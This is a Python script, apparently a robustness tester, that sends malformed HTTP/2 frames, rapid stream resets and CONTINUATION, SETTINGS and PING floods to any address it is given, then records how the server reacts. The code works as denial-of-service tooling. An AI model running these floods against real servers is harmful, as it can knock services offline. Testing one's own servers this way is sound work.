"""HTTP/2 in frames that no well-behaved client sends (RFC 9113): `frames.py ADDRESS ATTACK COUNT [paced]`.

Paced, it waits for the answer to a PING after each step. Prints a line of JSON when the connection has ended, or when all
was sent and a last PING is answered.
"""

import json
import select
import socket
import ssl
import struct
import sys

import hpack

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM = ACK = 1
END_HEADERS = 4
BARRIER = b"the last"
GIVE_UP = 60


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(stream, method, path, end=0, fields=()):
    pseudo = [(":method", method), (":scheme", "https"), (":authority", "mail.example.com"), (":path", path)]
    return frame(HEADERS, END_HEADERS | end, stream, hpack.Encoder().encode(pseudo + list(fields)))


def get(stream):
    return head(stream, "GET", "/flood", END_STREAM)


def post(stream, fields=()):
    return head(stream, "POST", "/upload", 0, fields)


def number(value):
    return struct.pack(">I", value)


# Steps with each new stream.
STREAMS = {
    "reset": lambda stream: get(stream) + frame(RESET, 0, stream, number(8)),
    "cancel": lambda stream: (post(stream), frame(RESET, 0, stream, number(8))),
    "window of 0": lambda stream: post(stream) + frame(WINDOW_UPDATE, 0, stream, number(0)),
    "window too large": lambda stream: post(stream) + frame(WINDOW_UPDATE, 0, stream, number(2**31 - 1)),
    "data after the end": lambda stream: get(stream) + frame(DATA, 0, stream, b"x"),
    "priority too short": lambda stream: post(stream) + frame(PRIORITY, 0, stream, b"xxx"),
    "priority of itself": lambda stream: post(stream) + frame(PRIORITY, 0, stream, number(stream) + b"x"),
    "second head": lambda stream: post(stream) + post(stream),
    "too much data": lambda stream: post(stream, [("content-length", "1")]) + frame(DATA, 0, stream, b"xx"),
}
# What comes once, and what is sent again and again.
FLOODS = {
    "continuations": (
        frame(HEADERS, END_STREAM, 1, hpack.Encoder().encode([(":method", "GET")])),
        frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 10),
    ),
    "empty continuations": (
        frame(HEADERS, END_STREAM, 1, hpack.Encoder().encode([(":method", "GET")])),
        frame(CONTINUATION, 0, 1),
    ),
    "settings": (b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000))),
    "pings": (b"", frame(PING, 0, 0, b"whatever")),
    "empty data": (post(1), frame(DATA, 0, 1)),
    "priorities": (b"", frame(PRIORITY, 0, 1, number(3) + b"x")),
    "unknown frames": (b"", frame(99, 0, 0, b"xxxxx")),
}


def connect(address):
    tls = ssl.create_default_context()
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    tls.set_alpn_protocols(["h2"])
    stream = tls.wrap_socket(socket.create_connection((address, 443), GIVE_UP), server_hostname="mail.example.com")
    assert stream.selected_alpn_protocol() == "h2"
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    return stream


class Frames:
    """Counts what comes."""

    def __init__(self):
        self.rest = b""
        self.seen = {"heads": 0, "resets": 0, "settings": 0, "pings": 0, "goaway": None, "ended": False, "barrier": False}

    def feed(self, received):
        self.rest += received
        at = 0
        while len(self.rest) >= at + 9:
            length = int.from_bytes(self.rest[at : at + 3], "big")
            if len(self.rest) < at + 9 + length:
                break
            payload = self.rest[at + 9 : at + 9 + length]
            self.take(self.rest[at + 3], self.rest[at + 4], payload)
            at += 9 + length
        self.rest = self.rest[at:]

    def take(self, kind, flags, payload):
        seen = self.seen
        seen["heads"] += kind == HEADERS
        seen["resets"] += kind == RESET
        seen["settings"] += kind == SETTINGS and flags & ACK
        seen["pings"] += kind == PING and flags & ACK
        seen["barrier"] |= kind == PING and payload == BARRIER
        # The first of them is a polite one where the second is not.
        if kind == GOAWAY:
            seen["goaway"] = int.from_bytes(payload[4:8], "big")


def exchange(stream, chunks, paced):
    """Sends all, taking what comes, until the end or the answer to the last frame."""
    sent = 0
    stream.setblocking(False)
    frames = Frames()
    seen = frames.seen
    waiting = b""
    chunks = iter(chunks)
    while not (seen["ended"] or seen["barrier"]):
        if not waiting and (not paced or seen["pings"] == sent):
            waiting = next(chunks, b"")
            sent += 1
        if not any(select.select([stream], [stream] if waiting else [], [], GIVE_UP)):
            raise TimeoutError(seen)
        try:
            if waiting:
                waiting = waiting[stream.send(waiting) :]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            waiting = b""
        try:
            while received := stream.recv(65536):
                frames.feed(received)
            seen["ended"] = True
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            seen["ended"] = True
    return seen


def steps(attack, count):
    if attack in STREAMS:
        for stream in range(1, 2 * count, 2):
            made = STREAMS[attack](stream)
            yield from made if isinstance(made, tuple) else (made,)
    else:
        once, again = FLOODS[attack]
        for at in range(0, count, 1000):
            yield (once if at == 0 else b"") + again * 1000


def main(address, attack, count, pace=""):
    ping = frame(PING, 0, 0, b"a step  ") if pace else b""
    chunks = [frame(SETTINGS) + ping]
    chunks += (step + ping for step in steps(attack, int(count)))
    chunks.append(frame(PING, 0, 0, BARRIER))
    print(json.dumps(exchange(connect(address), chunks, bool(pace))))


if __name__ == "__main__":
    main(*sys.argv[1:])
